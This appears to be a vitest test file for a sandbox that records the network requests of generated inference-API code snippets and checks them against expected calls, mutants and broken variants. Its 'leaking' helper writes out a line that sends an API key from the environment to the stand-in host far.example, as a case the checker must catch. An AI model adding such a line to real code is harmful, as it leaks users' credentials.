import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type CallOptions, snippets } from "@vitrine/inference";
import type { ModelRecord } from "@vitrine/model";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Subject } from "../subject.ts";
import { mutantsOf } from "../mutants.ts";
import { type Case, caseOf } from "./case.ts";
import { authorityIn } from "./recorder/certificates.ts";
import { check, requests } from "./requests.ts";
import { openSlot, type Slot } from "./slot.ts";
import { findTooling, lackingIn } from "./tooling.ts";

const tooling = findTooling();
const lacking = lackingIn(tooling);
for (const name of lacking) console.warn(`SKIPPED: calls are not run, since there is no ${name}. ${requests.missing}`);
const hasServer = tooling.versions.has("openssl");
const isComplete = lacking.length === 0;
const MINUTES = { timeout: 180_000 };

const CHAT: ModelRecord = { id: "acme/chat", tags: ["conversational"], pipeline_tag: "text-generation" };
const ofTask = (task: string): ModelRecord => ({ id: "acme/model", tags: [], pipeline_tag: task });

/** Every snippet for a question, as a subject. */
function asked(model: ModelRecord, options: CallOptions): readonly Subject[] {
	const extension = { python: "py", js: "js", sh: "sh" } as const;
	return snippets(model, options).map(({ language, client, content, shape = "" }, at) => ({
		id: `call/${model.pipeline_tag}/${options.provider}/${at}/${client}.${extension[language]}`,
		language,
		text: content,
		shape,
		model,
		call: { client, options },
	}));
}

describe.skipIf(!hasServer)("a recorder", () => {
	const folder = mkdtempSync(join(tmpdir(), "vitrine-recorder-"));
	const one: Case = caseOf(asked(CHAT, { provider: "together" })[0]!);
	const slot = authorityIn(join(folder, "authority")).then((authority) =>
		openSlot(join(folder, "slot"), authority, tooling),
	);
	const inNode = async (program: string): ReturnType<Slot["javascript"]> => (await slot).javascript(program, one);

	afterAll(async () => {
		await (await slot).close();
		rmSync(folder, { recursive: true });
	});

	it("is every host, over TLS and without, and keeps what it was sent to the byte", MINUTES, async () => {
		const {
			status,
			output,
			requests: kept,
		} = await inNode(`
			const body = new Uint8Array([0, 255, 13, 10]);
			for (const url of ["https://one.example/a?b=c", "https://two.example:8443/", "http://localhost:8080/v1/d%20e"])
				await fetch(url, { method: "POST", body, headers: { "X-Own": "ü".normalize("NFD").length + "" } });
		`);
		expect([status, output]).toEqual([0, ""]);
		expect(kept.map(({ url }) => url)).toEqual([
			"https://one.example/a?b=c",
			"https://two.example:8443/",
			"http://localhost:8080/v1/d%20e",
		]);
		expect(kept.map(({ body }) => [...body])).toEqual(kept.map(() => [0, 255, 13, 10]));
		expect(kept[0]!.headers).toMatchObject({ "x-own": "2" });
	});

	it("knows what one program sent from what the next one sends", MINUTES, async () => {
		const first = await inNode(`await fetch("https://one.example/first");`);
		const second = await inNode(`await fetch("https://one.example/second");`);
		expect([first, second].map((played) => played.requests.map(({ url }) => url))).toEqual([
			["https://one.example/first"],
			["https://one.example/second"],
		]);
	});

	it("is all that a program can reach, and trusted by nobody who was not told of it", MINUTES, async () => {
		const {
			status,
			output,
			requests: kept,
		} = await inNode(`
			import net from "node:net";
			import tls from "node:tls";
			const ends = (socket) => new Promise((done) => socket.on("error", ({ code }) => done(code)).on("secureConnect", done));
			console.log(await ends(tls.connect({ host: "one.example", port: 443, servername: "one.example", ca: [] })));
			const socket = net.connect({ host: "192.0.2.1", port: 80 }, () => socket.end("GET /plain HTTP/1.1\\r\\nHost: far.example\\r\\n\\r\\n"));
			await new Promise((done) => socket.on("close", done).resume());
		`);
		expect([status, output]).toEqual([0, expect.stringMatching(/^(SELF_SIGNED|UNABLE_TO)/)]);
		expect(kept.map(({ url }) => url)).toEqual(["http://far.example/plain"]);
	});

	it("gives the end of a program and what it said", MINUTES, async () => {
		expect(await inNode(`console.error("told"); process.exit(3);`)).toMatchObject({ status: 3, output: "told\n" });
	});
});

/** A subject under another name and with another text. */
const altered = (subject: Subject, name: string, text: string): Subject =>
	Object.assign({}, subject, { id: `${subject.id.slice(0, subject.id.lastIndexOf("/"))}/${name}`, text });

describe.skipIf(!isComplete)("a call that is run", () => {
	const right = [
		...asked(CHAT, { provider: "together", streaming: true, billTo: "acme", temperature: 0, max_tokens: 5 }),
		...asked(CHAT, { provider: "zai-org", route: "router" }),
		...asked(CHAT, { endpointUrl: "http://localhost:8080/v1" }),
		...asked(ofTask("image-classification"), { provider: "hf-inference", inputs: "it's a cat.png" }),
		...asked(ofTask("automatic-speech-recognition"), { provider: "together" }),
		...asked(ofTask("text-to-video"), { provider: "fal-ai" }),
		...asked(ofTask("text-to-image"), { provider: "nscale", route: "router" }),
	];
	const mutants = mutantsOf(requests, [
		...asked(CHAT, { provider: "together", billTo: "acme" }),
		...asked(ofTask("automatic-speech-recognition"), { provider: "hf-inference" }),
		...asked(ofTask("image-to-image"), { provider: "fal-ai" }),
	]).map(({ defect, subject }) => altered(subject, defect, subject.text));
	const plain = asked(CHAT, { provider: "together" }).find(({ call }) => call!.client === "requests")!;
	const wrong: readonly (readonly [string, RegExp, string])[] = [
		["it calls nobody", /^it calls nobody/, ""],
		["it fails after its call", /^it ends with 4/, `${plain.text}\nraise SystemExit(4)\n`],
		["it calls twice", /^it makes 2 calls/, `${plain.text}\n${plain.text}`],
		["it does not print what comes back", /^it does not print the whole answer/, plain.text.replace(/^print\(.*/m, "")],
		["it sends what it has to another host", /^it asks for https:\/\/far\.example/, leaking(plain.text)],
	];
	const said = new Map<string, string | undefined>();

	beforeAll(async () => {
		const broken = wrong.map(([name, , text]) => altered(plain, name, text));
		await check([...right, ...mutants, ...broken], ({ id }, problem) => said.set(id, problem), tooling);
	}, MINUTES.timeout);

	it("passes in every client: streamed or not, on both routes, with files, forms, jobs and results", () => {
		expect(new Set(right.map(({ call }) => call!.client)).size).toBe(7);
		expect(right.map(({ id }) => [id, said.get(id)]).filter(([, problem]) => problem !== undefined)).toEqual([]);
		expect(right.filter(({ id }) => !said.has(id))).toEqual([]);
	});

	it("fails for every planted defect", () => {
		expect(mutants.map(({ id }) => id).filter((id) => said.get(id) === undefined)).toEqual([]);
		expect(mutants.length).toBeGreaterThan(30);
	});

	it.each(wrong)("fails where %s", (name, message) => {
		expect(said.get(altered(plain, name, "").id)).toMatch(message);
	});
});

/** A program that shows its key to a host that has nothing to do with the call. */
function leaking(text: string): string {
	return `${text}\nimport os\nrequests.get("https://far.example/", headers={"X-Key": os.environ["TOGETHER_API_KEY"]})\n`;
}
